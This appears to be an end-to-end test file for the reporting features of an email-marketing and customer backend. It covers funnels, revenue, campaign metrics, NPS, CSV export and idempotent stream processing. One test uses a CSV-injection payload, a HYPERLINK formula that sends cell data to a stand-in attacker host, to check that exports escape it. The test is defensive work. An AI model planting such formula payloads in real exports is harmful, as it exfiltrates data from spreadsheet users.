import { execFile } from "node:child_process";
import { promisify } from "node:util";
import { QueryCommand } from "@aws-sdk/lib-dynamodb";
import { marshall } from "@aws-sdk/util-dynamodb";
import type { DynamoDBRecord } from "aws-lambda";
import { describe, expect, it } from "vitest";
import type { SesEventBridgeEvent } from "../functions/ses-events.ts";
import { makeHandler as makeSesEvents } from "../functions/ses-events.ts";
import { linkAttribution, signToken } from "../shared/email-links/tokens.ts";
import { customerPk } from "../shared/entities/customer.ts";
import { parseCsv } from "../shared/import-export/csv-read.ts";
import { applyStreamRecords } from "../shared/reports/apply.ts";
import type { Counts } from "../shared/reports/contributions.ts";
import { computeCounters, readCounters } from "../shared/reports/rebuild.ts";
import type { CampaignsReport, FunnelReport, RevenueReport } from "../shared/reports/types.ts";
import { TEST_TOKEN_SECRET, type TestStack, useStack } from "./support/stack.ts";

/**
 * Reports end to end: a population built through the HTTP API (leads, purchases, sweeps that send
 * mail, SES events, feedback and unsubscribe links), the counters kept by the stream consumer on
 * the local stack, and the reports checked against what was done. Then the counters are
 * recomputed from the items (`rapport reports rebuild`) and must equal the incremental ones.
 */
const stack = useStack();
const DAY = 86_400_000;
const exec = promisify(execFile);

const now = Date.now();
const iso = (offsetDays: number) => new Date(now + offsetDays * DAY).toISOString();
const today = iso(0).slice(0, 10);

async function lead(s: TestStack, email: string): Promise<string> {
  const res = await s.api("/v1/leads", { key: s.leadsKey, body: { email, consent: "yes", firstName: "Test" } });
  expect(res.status, JSON.stringify(res.body)).toBe(201);
  return res.body.customerId;
}

async function purchase(s: TestStack, customerId: string, at: string, amount: number, ref: string, status = 201): Promise<void> {
  const res = await s.api("/v1/events", { key: s.adminKey, body: { type: "purchase", customerId, at, amount, externalId: ref } });
  expect(res.status, JSON.stringify(res.body)).toBe(status);
}

async function sweep(s: TestStack, at: string): Promise<void> {
  const res = await s.api("/v1/sweeps", { key: s.adminKey, body: { at } });
  expect(res.status, JSON.stringify(res.body)).toBe(200);
}

async function sends(s: TestStack, customerId: string) {
  const res = await s.deps.db.send(
    new QueryCommand({
      TableName: s.deps.table,
      KeyConditionExpression: "PK = :pk AND begins_with(SK, :p)",
      ExpressionAttributeValues: { ":pk": customerPk(customerId), ":p": "SEND#" },
    }),
  );
  return (res.Items ?? []).map((i) => ({
    campaignId: String(i.campaignId),
    occurrence: String(i.occurrence),
    status: String(i.status),
    messageId: String(i.messageId),
  }));
}

function sesEvent(
  eventType: "Delivery" | "Open" | "Click",
  to: string,
  send: { campaignId: string; occurrence: string; messageId: string },
  customerId: string,
  at: string,
): SesEventBridgeEvent {
  const detail = {
    eventType,
    mail: {
      timestamp: at,
      messageId: send.messageId,
      destination: [to],
      tags: { campaign: [send.campaignId], customer: [customerId], occurrence: [send.occurrence] },
    },
    ...(eventType === "Delivery"
      ? { delivery: { timestamp: at } }
      : eventType === "Open"
        ? { open: { timestamp: at } }
        : { click: { timestamp: at, link: "https://example.com/shop" } }),
  };
  return {
    version: "0",
    id: crypto.randomUUID(),
    "detail-type": `Email ${eventType}`,
    source: "aws.ses",
    account: "123456789012",
    time: at,
    region: "eu-west-1",
    resources: [],
    detail,
  } as unknown as SesEventBridgeEvent;
}

/** Counters as a plain object, zero attributes dropped, for comparing. */
function plain(counts: Counts, keep: (attr: string) => boolean = () => true): Record<string, Record<string, number>> {
  const out: Record<string, Record<string, number>> = {};
  for (const [id, attrs] of counts) {
    const kept = Object.fromEntries([...attrs].filter(([a, n]) => n !== 0 && keep(a)));
    if (Object.keys(kept).length) out[id] = kept;
  }
  return out;
}

describe("reports from the counters the stream keeps", () => {
  const people: { id: string; email: string }[] = [];
  const scores = [10, 9, 9, 7, 3];

  it("build a population through the API", async () => {
    for (let i = 0; i < 8; i++) {
      const email = `report-${i}@example.com`;
      people.push({ id: await lead(stack, email), email });
    }
    // Five buy once yesterday (60.00 each), one of them twice more (loyal at 3 orders), one buys 25.50.
    for (let i = 0; i < 5; i++) await purchase(stack, people[i]!.id, iso(-1), 60, `order-${i}`);
    await purchase(stack, people[0]!.id, iso(-1), 20, "order-0b");
    await purchase(stack, people[0]!.id, iso(-1), 20, "order-0c");
    await purchase(stack, people[5]!.id, iso(-1), 25.5, "order-5");
    await purchase(stack, people[5]!.id, iso(-1), 25.5, "order-5", 200); // a retried webhook: counted once

    // Thank-you mails go out, then feedback requests a week later (sweeps at midday UTC, inside the send window).
    const midday = (d: number) => `${iso(d).slice(0, 10)}T12:00:00.000Z`;
    await sweep(stack, midday(1));
    await sweep(stack, midday(8));
    await sweep(stack, midday(9));

    // Each feedback request is delivered (twice: SES redelivers), opened by three people (one of them twice), clicked by one.
    const handle = makeSesEvents(stack.deps);
    for (const [i, p] of people.slice(0, 5).entries()) {
      const request = (await sends(stack, p.id)).find((s) => s.campaignId === "feedback-request" && s.status === "sent");
      expect(request, `feedback request for customer ${i}`).toBeDefined();
      await handle(sesEvent("Delivery", p.email, request!, p.id, midday(8)));
      await handle(sesEvent("Delivery", p.email, request!, p.id, midday(8)));
      if (i < 3) await handle(sesEvent("Open", p.email, request!, p.id, iso(8.6)));
      if (i === 0) await handle(sesEvent("Open", p.email, request!, p.id, iso(8.7)));
      if (i === 1) await handle(sesEvent("Click", p.email, request!, p.id, iso(8.8)));
      // The score link, as the email carries it: 10, 9, 9, 7, 3.
      const token = signToken(
        TEST_TOKEN_SECRET,
        { c: p.id, p: "feedback", k: linkAttribution("feedback-request", request!.occurrence) },
        new Date(now + 60 * DAY),
      );
      // The page the link opens posts the score (the GET itself records nothing).
      const res = await stack.api("/v1/feedback", { body: { t: token, score: scores[i] } });
      expect(res.status).toBe(200);
    }
    // Customer 4 changes their mind on the same link: 3 → 6 (still a detractor; one answer, not two).
    const request4 = (await sends(stack, people[4]!.id)).find((s) => s.campaignId === "feedback-request")!;
    const token4 = signToken(
      TEST_TOKEN_SECRET,
      { c: people[4]!.id, p: "feedback", k: linkAttribution("feedback-request", request4.occurrence) },
      new Date(now + 60 * DAY),
    );
    expect((await stack.api("/v1/feedback", { body: { t: token4, score: 6 } })).status).toBe(200);
    // Customer 3 unsubscribes through the thank-you mail's link.
    const thanks3 = (await sends(stack, people[3]!.id)).find((s) => s.campaignId === "thank-you")!;
    const unsub = signToken(
      TEST_TOKEN_SECRET,
      { c: people[3]!.id, p: "unsubscribe", k: linkAttribution("thank-you", thanks3.occurrence) },
      new Date(now + 60 * DAY),
    );
    const res = await fetch(`${stack.url}/v1/unsubscribe?t=${encodeURIComponent(unsub)}`, {
      method: "POST",
      headers: { "content-type": "application/x-www-form-urlencoded" },
      body: "List-Unsubscribe=One-Click",
    });
    expect(res.status).toBe(200);
    await stack.settleReports();
  });

  it("the funnel counts every stage and the moves of the period", async () => {
    const res = await stack.api(`/v1/reports/funnel?from=${iso(-2).slice(0, 10)}&to=${iso(10).slice(0, 10)}`, { key: stack.adminKey });
    expect(res.status).toBe(200);
    const report = res.body as FunnelReport;
    const stages = Object.fromEntries(report.stages.map((s) => [s.stage, s]));
    // Eight contacts. Customer 0: 3 orders → loyal, then a 10 → advocate. Customer 1 and 2 score 9 → advocate.
    // Customers 3, 4 and 5 bought (3 and 4 once, 5 once: the retry counted once) → customer. 6 and 7 are leads.
    expect(report.total).toBe(8);
    expect([stages.lead!.count, stages.customer!.count, stages.loyal!.count, stages.advocate!.count]).toEqual([2, 3, 0, 3]);
    // The period started two days ago: nobody existed then, so everything entered during it.
    expect(report.stages.every((s) => s.atStart === 0)).toBe(true);
    expect(report.newContacts).toBe(8);
    expect(stages.lead!.entered).toBe(8);
    // lead → customer or beyond: all six buyers of eight; customer → loyal or advocate: customer 0 (→loyal),
    // 1 and 2 (→advocate) of the six who entered customer.
    expect(report.conversions[0]).toEqual({ from: "lead", to: "customer", moved: 6, eligible: 8, rate: 75 });
    expect(report.conversions[1]).toMatchObject({ from: "customer", moved: 3, eligible: 6, rate: 50 });

    // The same numbers as listing customers by stage.
    for (const stage of ["lead", "customer", "advocate"]) {
      const list = await stack.api(`/v1/customers?stage=${stage}&limit=100`, { key: stack.adminKey });
      expect(list.body.items.length, stage).toBe(stages[stage]!.count);
    }
  });

  it("revenue adds up the purchases once each", async () => {
    const res = await stack.api(`/v1/reports/revenue?from=${iso(-1).slice(0, 10)}&to=${iso(-1).slice(0, 10)}&interval=day`, { key: stack.adminKey });
    const report = res.body as RevenueReport;
    // 5 × 60 + 2 × 20 + 25.50 = 365.50 in 8 purchases; 6 new customers; 8 new contacts were created today, not yesterday.
    expect(report.totals).toEqual({ purchases: 8, revenue: 365.5, newContacts: today === iso(-1).slice(0, 10) ? 8 : 0, newCustomers: 6 });
  });

  it("campaigns count messages, unique outcomes, unsubscribes and NPS", async () => {
    const res = await stack.api("/v1/reports/campaigns", { key: stack.adminKey });
    const rows = Object.fromEntries((res.body as CampaignsReport).campaigns.map((c) => [c.id, c]));
    const sentTo = async (campaignId: string) => {
      let n = 0;
      for (const p of people) n += (await sends(stack, p.id)).filter((s) => s.campaignId === campaignId && s.status === "sent").length;
      return n;
    };
    expect(rows["thank-you"]!.sent).toBe(await sentTo("thank-you"));
    expect(rows["thank-you"]!.sent).toBeGreaterThan(0);
    expect(rows["thank-you"]!.unsubscribed).toBe(1);
    const feedback = rows["feedback-request"]!;
    // All six buyers got one; SES events came for five of them.
    expect(feedback.sent).toBe(6);
    // Delivered 5 (each twice, counted once), opened 3 (one twice), clicked 1.
    expect([feedback.delivered, feedback.opened, feedback.clicked]).toEqual([5, 3, 1]);
    // 5 ÷ 6 = 83.3 % delivered; 3 ÷ 5 = 60 % opened, 1 ÷ 5 = 20 % clicked (of those delivered).
    expect(feedback.rates).toEqual({ delivery: 83.3, open: 60, click: 20, unsubscribe: 0 });
    // Scores 10, 9, 9, 7, 6: promoters 3, passive 1, detractor 1 → NPS (3 − 1) ÷ 5 = 40; average 41 ÷ 5 = 8.2.
    expect(feedback.feedback).toEqual({ count: 5, promoters: 3, passives: 1, detractors: 1, nps: 40, average: 8.2 });
  });

  it("segments cover every buyer once", async () => {
    const res = await stack.api("/v1/reports/segments", { key: stack.adminKey });
    expect(res.status).toBe(200);
    expect(res.body.customers).toBe(6);
    expect(res.body.revenue).toBe(365.5);
    expect(res.body.segments.reduce((n: number, s: { count: number }) => n + s.count, 0)).toBe(6);
  });

  it("CSV for spreadsheets, and clear 400s", async () => {
    const csv = await fetch(`${stack.url}/v1/reports/funnel?format=csv`, { headers: { authorization: `Bearer ${stack.adminKey}` } });
    expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
    const lines = (await csv.text()).trim().split("\r\n");
    expect(lines[0]).toBe("stage,count,percent,at_start,entered,converts_to,moved,eligible,conversion_rate");
    expect(lines).toHaveLength(7);
    const bad = await stack.api("/v1/reports/funnel?from=2026-02-30", { key: stack.adminKey });
    expect(bad.status).toBe(400);
    expect(JSON.stringify(bad.body)).toContain("from");
    const reversed = await stack.api("/v1/reports/retention?from=2026-05-01&to=2026-04-01", { key: stack.adminKey });
    expect(reversed.status).toBe(400);
    expect((await stack.api("/v1/reports/revenue?interval=week", { key: stack.adminKey })).status).toBe(400);
    expect((await stack.api("/v1/reports/campaigns", { key: stack.leadsKey })).status).toBe(403);
    expect((await stack.api("/v1/reports/segments")).status).toBe(401);
  });

  it("a campaign named like a formula reaches the campaigns CSV as text, through the route and the CLI", async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click")';
    const campaign = (await stack.api("/v1/campaigns/feedback-request", { key: stack.adminKey })).body;
    const { id: _id, isDefault: _d, updatedAt: _u, ...input } = campaign;
    const renamed = await stack.api("/v1/campaigns/formula-name", { method: "PUT", key: stack.adminKey, body: { ...input, name: formula, enabled: false } });
    expect(renamed.status, JSON.stringify(renamed.body)).toBeLessThan(300);
    const res = await fetch(`${stack.url}/v1/reports/campaigns?format=csv`, { headers: { authorization: `Bearer ${stack.adminKey}` } });
    const text = await res.text();
    const row = parseCsv(text).find((r) => r.cells[0] === "formula-name");
    expect(row?.cells[1]).toBe(`'${formula}`);
    expect(text).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const env = { ...process.env, DYNAMODB_ENDPOINT: stack.deps.config.dynamodbEndpoint ?? "", RAPPORT_TABLE: stack.deps.table };
    const cli = await exec(process.execPath, ["bin/rapport.ts", "reports", "campaigns", "--csv"], { env });
    expect(parseCsv(cli.stdout).find((r) => r.cells[0] === "formula-name")?.cells[1]).toBe(`'${formula}`);
  });

  it("a rebuild from the items equals the incremental counters", async () => {
    await stack.settleReports();
    const incremental = plain(await readCounters(stack.deps));
    const rebuilt = plain(await computeCounters(stack.deps));
    expect(Object.keys(incremental).length).toBeGreaterThan(5);
    expect(rebuilt).toEqual(incremental);
  });

  it("an erased customer leaves the stage counts, and the history stays counted", async () => {
    const before = (await stack.api(`/v1/reports/revenue?from=${iso(-1).slice(0, 10)}&to=${iso(-1).slice(0, 10)}&interval=day`, { key: stack.adminKey }))
      .body as RevenueReport;
    expect((await stack.api(`/v1/customers/${people[5]!.id}`, { method: "DELETE", key: stack.adminKey })).status).toBe(200);
    await stack.settleReports();
    const funnel = (await stack.api("/v1/reports/funnel", { key: stack.adminKey })).body as FunnelReport;
    expect(funnel.total).toBe(7);
    expect(funnel.stages.find((s) => s.stage === "customer")!.count).toBe(2);
    const after = (await stack.api(`/v1/reports/revenue?from=${iso(-1).slice(0, 10)}&to=${iso(-1).slice(0, 10)}&interval=day`, { key: stack.adminKey }))
      .body as RevenueReport;
    expect(after.totals).toEqual(before.totals);
    // Current-state counters still equal a rebuild's; history differs only by what erasure deleted.
    const isHistory = (a: string) =>
      /^(new|newCustomers|purchases|revenue|sent|move#.*|erased#.*|fb#.*|unsubscribed|delivered|opened|clicked|bounced|complained)$/.test(a);
    expect(plain(await computeCounters(stack.deps), (a) => !isHistory(a))).toEqual(plain(await readCounters(stack.deps), (a) => !isHistory(a)));
  });

  it("`rapport reports rebuild` and `rapport reports funnel --csv` work on the table", async () => {
    const env = { ...process.env, DYNAMODB_ENDPOINT: stack.deps.config.dynamodbEndpoint ?? "", RAPPORT_TABLE: stack.deps.table };
    const { stdout } = await exec(process.execPath, ["bin/rapport.ts", "reports", "rebuild"], { env });
    expect(JSON.parse(stdout)).toMatchObject({ deleted: 0 });
    const csv = await exec(process.execPath, ["bin/rapport.ts", "reports", "funnel", "--csv"], { env });
    expect(csv.stdout.split("\r\n")[0]).toBe("stage,count,percent,at_start,entered,converts_to,moved,eligible,conversion_rate");
    const bad = await exec(process.execPath, ["bin/rapport.ts", "reports", "revenue", "--interval", "week"], { env }).catch(
      (e: { code: number; stderr: string }) => e,
    );
    expect((bad as { code: number }).code).toBe(2);
    expect((bad as { stderr: string }).stderr).toContain("--interval");
  });
});

describe("the stream consumer applies each record once", () => {
  const record = (
    eventID: string,
    seq: string,
    kind: "INSERT" | "MODIFY",
    oldImage: Record<string, unknown> | undefined,
    newImage: Record<string, unknown>,
  ): DynamoDBRecord => ({
    eventID,
    eventName: kind,
    dynamodb: {
      Keys: marshall({ PK: newImage.PK, SK: newImage.SK }) as never,
      SequenceNumber: seq,
      ...(oldImage ? { OldImage: marshall(oldImage) as never } : {}),
      NewImage: marshall(newImage) as never,
    },
  });
  const entry = (n: number, amount: number) => ({
    PK: "CUST#cus_apply",
    SK: `TL#2020-01-0${n}T00:00:00.000Z#e${n}`,
    kind: "purchase",
    at: `2020-01-0${n}T00:00:00.000Z`,
    data: { amount },
  });

  it("a redelivered batch, and a longer one starting at the same record, count nothing twice", async () => {
    const batch = [
      record("ev-1", "100", "INSERT", undefined, entry(1, 10)),
      record("ev-2", "101", "INSERT", undefined, entry(2, 20)),
      record("ev-3", "102", "INSERT", undefined, entry(3, 30)),
    ];
    expect(await applyStreamRecords(stack.deps, batch)).toEqual({ applied: 3, skipped: 0 });
    expect(await applyStreamRecords(stack.deps, batch)).toEqual({ applied: 0, skipped: 3 });
    const longer = [...batch, record("ev-4", "103", "INSERT", undefined, entry(4, 40))];
    expect(await applyStreamRecords(stack.deps, longer)).toEqual({ applied: 1, skipped: 3 });
    const counters = await readCounters(stack.deps);
    expect(["2020-01-01", "2020-01-02", "2020-01-03", "2020-01-04"].map((d) => counters.get(`REPORT#DAY|${d}`)?.get("revenue"))).toEqual([
      1000, 2000, 3000, 4000,
    ]);
  });

  it("ignores items outside customer partitions", async () => {
    const other = record("ev-x", "200", "INSERT", undefined, {
      PK: "IDEM#abc",
      SK: "IDEM",
      kind: "purchase",
      at: "2020-02-01T00:00:00.000Z",
      data: { amount: 5 },
    });
    expect(await applyStreamRecords(stack.deps, [other])).toEqual({ applied: 0, skipped: 1 });
  });
});
